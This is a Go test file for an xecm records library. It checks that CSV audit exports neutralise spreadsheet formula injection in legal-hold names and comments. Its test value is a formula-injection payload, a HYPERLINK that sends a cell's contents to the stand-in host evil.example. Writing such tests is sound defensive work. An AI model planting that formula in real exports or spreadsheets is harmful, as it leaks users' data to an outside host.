package xecm_test

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/xecm-go/xecm"
	"github.com/xecm-go/xecm/xecmtest"
)

// Text from users that a spreadsheet would run as a formula is exported as
// text unless the caller keeps formulas.
func TestAuditExportCSVNeutralisesFormulas(t *testing.T) {
	srv, c := startSim(t)
	ctx := t.Context()
	folder := srv.AddFolder(xecmtest.EnterpriseWorkspaceID, "Evidence")
	hostile := `=HYPERLINK("http://evil.example/?"&A1,"open")`
	hold, err := c.Records.CreateHold(ctx, xecm.HoldCreateRequest{Name: "@SUM(1+1)", Type: "LEGAL", Comment: hostile})
	require.NoError(t, err)
	require.NoError(t, c.Records.ApplyHold(ctx, folder, hold))

	export := func(keep bool) map[string]string {
		t.Helper()
		var buf bytes.Buffer
		_, err := c.Audit.Export(ctx, &buf, xecm.AuditExportOptions{Format: xecm.ExportCSV, NodeIDs: []int64{folder},
			Holds: true, CSVFormulas: keep})
		require.NoError(t, err)
		recs, err := csv.NewReader(&buf).ReadAll()
		require.NoError(t, err)
		for _, r := range recs[1:] {
			if r[0] == "hold" {
				row := map[string]string{}
				for i, h := range recs[0] {
					row[h] = r[i]
				}
				return row
			}
		}
		t.Fatal("no hold row")
		return nil
	}
	row := export(false)
	assert.Equal(t, "'"+hostile, row["hold_comment"])
	assert.Equal(t, "'@SUM(1+1)", row["hold_name"])
	assert.Equal(t, "LEGAL", row["hold_type"], "ordinary text stays as it is")
	assert.NotEqual(t, "'", row["node_id"][:1], "numbers are not text")

	row = export(true)
	assert.Equal(t, hostile, row["hold_comment"])
}
